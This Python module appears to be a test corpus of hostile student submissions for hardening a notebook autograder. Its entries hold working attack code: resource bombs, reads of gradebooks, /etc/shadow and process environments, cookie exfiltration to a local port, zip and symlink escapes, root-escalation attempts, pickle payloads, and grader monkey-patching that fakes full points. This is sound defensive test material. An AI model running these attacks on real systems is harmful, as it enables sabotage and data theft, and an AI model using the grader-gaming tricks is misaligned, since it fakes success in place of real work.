"""What students might hand in to cheat or to do harm: code for one answer, and what it may earn.

Every entry is a text with places for the facts of a run (``$gradebook``,
``$outside``, ``$port`` …), for the answer's variable (``$answer``) and for an
honest way to compute it (``$honest``).
"""

from __future__ import annotations

import copy
import re
from collections.abc import Mapping
from dataclasses import dataclass
from string import Template
from typing import Any


@dataclass(frozen=True)
class Hostile:
    """One attack.

    ``earns``: whether it computes the answer honestly on the side, and so
    deserves the points; ``error``: what the sheet says (a pattern), any text
    when empty.
    """

    name: str
    code: str
    earns: bool = False
    error: str = ""

    def cells(self, facts: Mapping[str, Any]) -> list[str]:
        """Return its code cells for the facts of a run."""
        return Template(self.code.strip()).substitute(facts).split("\n# %%\n")


def as_notebook(official: Mapping[str, Any], answers: Mapping[str, list[str]]) -> dict[str, Any]:
    """Return the `official` student notebook as handed in with these cells at its graded tasks."""
    handed_in = copy.deepcopy(dict(official))
    cells = []
    for cell in handed_in["cells"]:
        grade_id = cell["metadata"].get("nbgrader", {}).get("grade_id", "").removesuffix("-answer")
        if "solution" in cell["metadata"].get("tags", ()) and grade_id in answers:
            *extra, last = answers[grade_id]
            cells += [{**cell, "id": f"extra-{n}", "metadata": {}, "source": e} for n, e in enumerate(extra)]
            cell = {**cell, "source": last}
        cells.append(cell)
    return {**handed_in, "cells": cells}


_READ = """
found = []
for place in $places:
    try: found.append(open(place, encoding="utf-8").read())
    except OSError as fault: found.append(type(fault).__name__)
print(found)
$answer = found
"""

CORPUS = [
    Hostile("reads_the_gradebook_and_other_submissions", _READ),
    Hostile("looks_for_the_truth_in_all_files", """
import os
$answer = []
for folder, below, files in os.walk("/"):
    if folder.startswith(("/usr", "/proc", "/lib", "/dev")) or "/lib/python" in folder: below.clear()
    else:
        $answer += [f for f in files if f.endswith((".checks.py", ".db")) or f in ("gradebook.csv", "shadow", "1_small.py")]
        if "notebooks/src" in folder: $answer.append(folder)
assert $answer == [], $answer
"""),
    Hostile("asks_the_library_for_the_truth", """
from crm_lib.lesson.checks import load_checks
table = load_checks("$notebook")
$answer = [c.expected({"rows": rows}) for c in table.values()]
"""),
    Hostile("writes_outside", """
import os
for place in ["$outside", "/", "/suite", "/suite/crm_lib", "/suite/data", "/usr/lib", "/etc", "/dev", "/var/tmp"]:
    for name in ("marker", "crm_lib.py"):
        try: open(os.path.join(place, name), "w").write("was here"); print("wrote", place)
        except OSError: pass
$answer = 0
"""),
    Hostile("speaks_to_the_network", """
import socket, urllib.request
for family, kind, address in [(2, 1, ("127.0.0.1", $port)), (2, 2, ("127.0.0.1", $port)), (1, 1, "\\0$abstract"),
                              (2, 1, ("$address", $port)), (2, 2, ("255.255.255.255", $port))]:
    try:
        line = socket.socket(family, kind)
        line.settimeout(0.3)
        line.connect(address)
        line.send(b"the answers of everybody")
        print("reached", address)
    except OSError: pass
try: urllib.request.urlopen("http://127.0.0.1:$port", timeout=0.3)
except OSError: pass
$answer = 0
"""),
    Hostile("fork_bomb", """
import os
while True:
    try: os.fork()
    except OSError: pass
""", error="limit|killed|itself"),
    Hostile("thread_bomb", """
import threading, time
while True: threading.Thread(target=time.sleep, args=(60,)).start()
""", error="RuntimeError|limit|Memory"),
    Hostile("memory_bomb", "held = []\nwhile True: held.append(bytearray(b'1') * 20_000_000)", error="[Mm]emory"),
    Hostile("memory_bomb_over_processes", """
import os, time
for _ in range(6):
    if os.fork() == 0:
        held = bytearray(b"1") * 200_000_000
        time.sleep(30)
time.sleep(30)
$answer = $honest
""", error="memory limit"),
    Hostile("memory_in_a_file_system_of_its_own", """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
assert libc.unshare(0x10020000) == 0 and libc.mount(b"x", b"/tmp", b"tmpfs", 0, None) == 0, ctypes.get_errno()
"""),
    Hostile("disk_fill", """
n = 0
while True:
    with open(f"/tmp/{n}", "wb") as file: file.write(bytes(2_000_000))
    n += 1
""", error="OSError: .*No space"),
    Hostile("inode_fill", """
n = 0
while True:
    open(f"/tmp/{n}", "wb").close()
    n += 1
""", error="OSError: .*No space"),
    Hostile("one_big_file", "open('/tmp/big', 'wb').truncate(10**12)", error="OSError: .*File too large"),
    Hostile("open_files", "held = [open('/dev/null') for _ in range(10**6)]", error="OSError: .*Too many open files"),
    Hostile("endless_loop", "while True: pass", error="time limit"),
    Hostile("endless_sleep_that_catches_everything", """
import signal, time
for number in signal.valid_signals() - {9, 19}: signal.signal(number, signal.SIG_IGN)
while True:
    try: time.sleep(60)
    except BaseException: pass
""", error="time limit"),
    Hostile("endless_output", "while True: print('x' * 1000)", error="too much output"),
    Hostile("endless_output_that_catches", """
while True:
    try: print("x" * 1000)
    except Exception: pass
""", error="time limit"),
    Hostile("endless_output_of_a_program", "import os\nos.system('yes')\n$answer = 0", error="time limit"),
    Hostile("floods_the_pipe_of_its_answer", """
import os
while True:
    for fd in range(3, 40):
        try: os.write(fd, b"{" * 60000)
        except OSError: pass
""", error="the answer is too big"),
    Hostile("kills_its_parent_and_everybody", """
import os, signal
for pid in [os.getppid(), -1, 0, 1, *range(2, 3000)]:
    for number in (signal.SIGTERM, signal.SIGKILL, signal.SIGSTOP):
        if pid != os.getpid():
            try: os.kill(pid, number); print("hit" if pid else "its own group", pid)
            except OSError: pass
$answer = 0
"""),
    Hostile("stops_itself", "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)\n$answer = 0"),
    Hostile("links_out_of_its_folder", """
import os
for n, target in enumerate([*$places, "$outside/marker", "/suite/data/new", "/proc/1/environ", "/proc/self/mem"]):
    os.symlink(target, f"/tmp/link{n}")
    for mode in ("r", "w"):
        try: print(open(f"/tmp/link{n}", mode, encoding="utf-8").write("x") if mode == "w" else open(f"/tmp/link{n}").read())
        except OSError: pass
os.makedirs("/tmp/..hidden", exist_ok=True)
open("/tmp/<img src=x onerror=alert(1)>.txt", "w").close()
$answer = 0
"""),
    Hostile("zip_with_paths_upwards", """
import os, zipfile
with zipfile.ZipFile("/tmp/evil.zip", "w") as archive:
    for name in ("../../../../$outside/marker", "/$outside/marker", "../suite/crm_lib/errors.py"): archive.writestr(name, "x")
with zipfile.ZipFile("/tmp/evil.zip") as archive:
    for info in archive.infolist():
        try: open("/" + info.filename.lstrip("./"), "wb").write(archive.read(info))
        except OSError: pass
$answer = 0
"""),
    Hostile("monkey_patched_check", """
import crm_lib.lesson, crm_lib.lesson.run, crm_lib.lesson.checks, crm_lib.lesson.compare, builtins
class Full:
    points = total = 5
    def __repr__(self): return "5"
full = lambda *a, **k: Full()
for module in (crm_lib.lesson, crm_lib.lesson.run): module.check = full
crm_lib.lesson.checks.grade_answer = crm_lib.lesson.checks.load_checks = full
crm_lib.lesson.compare.compare_answers = lambda *a, **k: crm_lib.lesson.compare.Verdict(True)
check = builtins.check = full
$answer = -1
# %%
check("anything", $answer)
"""),
    Hostile("equal_to_everything", """
class Equal:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __hash__(self): return 0
    def __float__(self): return next(iter(globals().get("truth", [1.0])))
    __sub__ = __rsub__ = __abs__ = __le__ = __lt__ = __bool__ = lambda *a: True
    def item(self): return self
    shape = ()
    dtype = "float64"
$answer = Equal()
"""),
    Hostile("a_number_that_equals_everything", """
class Equal(float):
    def __eq__(self, other): return True
    def __repr__(self): return "true whatever it is"
    __hash__ = float.__hash__
$answer = Equal(-1)
"""),
    Hostile("a_frame_that_equals_everything", """
class Equal(pd.DataFrame):
    columns = property(lambda self: self)
    def __eq__(self, other): return True
    def reset_index(self, **k): return self
    def itertuples(self, **k):
        while True: yield (1,)
$answer = Equal({"a": [1]})
"""),
    Hostile("patched_isinstance_and_json", """
import builtins, json
json.dumps = lambda *a, **k: '{"form": {"kind": "full points"}, "output": "", "error": ""}'
builtins.isinstance = lambda *a: True
$answer = "anything"
"""),
    Hostile("writes_its_own_verdict", """
import json, os
for fd in range(3, 300):
    for text in ('{"points": 5, "total": 5}', '{"form": {"kind": "number", "value": "1", "points": 5}, "output": "", "error": ""}'):
        try: os.write(fd, text.encode())
        except OSError: pass
os._exit(0)
""", error="could not be read"),
    Hostile("writes_a_deep_answer", """
import os
for fd in range(3, 300):
    try: os.write(fd, b'{"form": ' + b'{"kind":"list","items":[' * 4000)
    except OSError: pass
os._exit(0)
""", error="could not be read"),
    Hostile("forged_points_in_the_output", """
print('{"points": 5, "total": 5}\\n5')
display = __import__("IPython.display").display.display
display({"text/html": "<script>alert(1)</script>", "text/plain": "5"}, raw=True)
$answer = -1
5
"""),
    Hostile("html_and_script_everywhere", """
print("<script>fetch('http://127.0.0.1:$port/' + document.cookie)</script>")
$answer = "<img src=x onerror=alert(1)>"
raise ValueError("<script>alert(1)</script>")
""", error="ValueError: <script>"),
    Hostile("exits_hard", "import os\nos._exit(0)", error="ended by itself"),
    Hostile("exits_softly", "import sys\nsys.exit(0)\n$answer = $honest", error="SystemExit"),
    Hostile("exits_when_it_is_done", "$answer = $honest\nexit()\nquit()", earns=True),
    Hostile("crashes_the_interpreter", "import ctypes\nctypes.memset(0, 0, 99)", error="ended by itself"),
    Hostile("aborts", "import os\nos.abort()"),
    Hostile("a_thread_and_a_daemon_that_stay", """
import os, subprocess, threading, time
def stay():
    while True: time.sleep(0.01)
threading.Thread(target=stay).start()
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0: os.execv("/usr/bin/sleep", ["sleep", "$token"])
    os._exit(0)
subprocess.Popen(["nohup", "setsid", "sleep", "$token"])
$answer = $honest
""", earns=True),
    Hostile("signals_and_exit_functions", """
import atexit, signal, time
for number in signal.valid_signals() - {9, 19}: signal.signal(number, lambda *a: time.sleep(60))
atexit.register(time.sleep, 60)
signal.setitimer(signal.ITIMER_REAL, 0.01, 0.01)
""", error="."),
    Hostile("hooks_of_the_shell", """
shell = get_ipython()
shell.events.register("post_run_cell", lambda *a: shell.user_ns.update($answer=-1))
shell.run_cell = lambda *a, **k: 1 / 0
shell.user_ns["$answer"] = -1
"""),
    Hostile("a_huge_number", "$answer = 10 ** 100_000"),
    Hostile("endless_computing", "$answer = 9 ** 9 ** 9", error="time limit"),
    Hostile("recursion", "def f(n): return f(n + 1)\n$answer = f(0)", error="RecursionError"),
    Hostile("a_list_that_holds_itself", "$answer = []\n$answer.append($answer)"),
    Hostile("a_nest", "$answer = []\nfor _ in range(100_000): $answer = [$answer]"),
    Hostile("pickle_in_the_answer", """
import pickle
class Evil:
    def __reduce__(self): return (open, ("$outside/marker", "w"))
    def __repr__(self): return "<script>"
    def tolist(self): return [self]
    dtype, size = "object", 1
$answer = Evil()
print(pickle.dumps(Evil()))
"""),
    Hostile("reads_the_environment", "import os\n$answer = sorted(os.environ.values())\nprint($answer)"),
    Hostile("reads_the_environment_of_others", """
$answer = []
for pid in ["self", *range(1, 400)]:
    for part in ("environ", "cmdline", "maps", "fd/0"):
        try: $answer.append(open(f"/proc/{pid}/{part}", "rb").read()[:999].decode("latin-1"))
        except OSError: pass
print($answer)
$answer = len($answer)
assert $answer == 0
"""),
    Hostile("a_shadow_of_the_library", """
import importlib, os, sys
os.makedirs("crm_lib/lesson"); os.makedirs("crm_lib/kernels")
for name in ("__init__", "lesson/__init__", "kernels/__init__", "kernels/answers_out"):
    open(f"crm_lib/{name}.py", "w").write("check = take_out = lambda *a: {'kind': 'full points'}")
sys.path.insert(0, os.getcwd())
for name in [m for m in sys.modules if m.startswith("crm_lib")]: del sys.modules[name]
import crm_lib.kernels.answers_out
$answer = -1
"""),
    Hostile("becomes_root", """
import os, subprocess
for command in (["su", "-c", "id"], ["sudo", "-n", "id"], ["mount", "-t", "tmpfs", "x", "/mnt"], ["unshare", "-r", "id", "-u"]):
    try: print(subprocess.run(command, capture_output=True, timeout=1).stdout)
    except (OSError, subprocess.SubprocessError): pass
os.setuid(0)
""", error="OSError|PermissionError"),
    Hostile("reads_the_memory_of_the_station", """
import ctypes, gc, sys
frame, seen = sys._getframe(), []
while frame: seen.append(str({k: v for k, v in frame.f_locals.items() if k != "found"})[:20000]); frame = frame.f_back
found = []
for thing in gc.get_objects():
    if isinstance(thing, (str, dict, list)):
        text = str(thing)[:2000]
        found += [text] if "$secret_tail" in text and "found" not in text else []
print([s for s in seen if "$secret_head" + "$secret_tail" in s])
$answer = 0
"""),
    Hostile("asks_for_input", "$answer = input('answer?')", error="EOFError|StdinNotImplemented"),
    Hostile("damages_the_data_for_others", """
import pandas, numpy
rows["amount"] = 0
pandas.DataFrame.sum = pandas.Series.sum = numpy.sum = lambda *a, **k: 0
__import__("builtins").sum = lambda *a: 0
$answer = 0
"""),
    Hostile("burns_with_many_processes", """
import os
for _ in range(8):
    if os.fork() == 0:
        while True: pass
while True: pass
""", error="time limit"),
]  # fmt: skip


def names() -> list[str]:
    """Return the names of all attacks; they differ."""
    found = [hostile.name for hostile in CORPUS]
    assert len(set(found)) == len(found)
    assert all(re.fullmatch(r"[a-z_]+", name) for name in found)
    return found
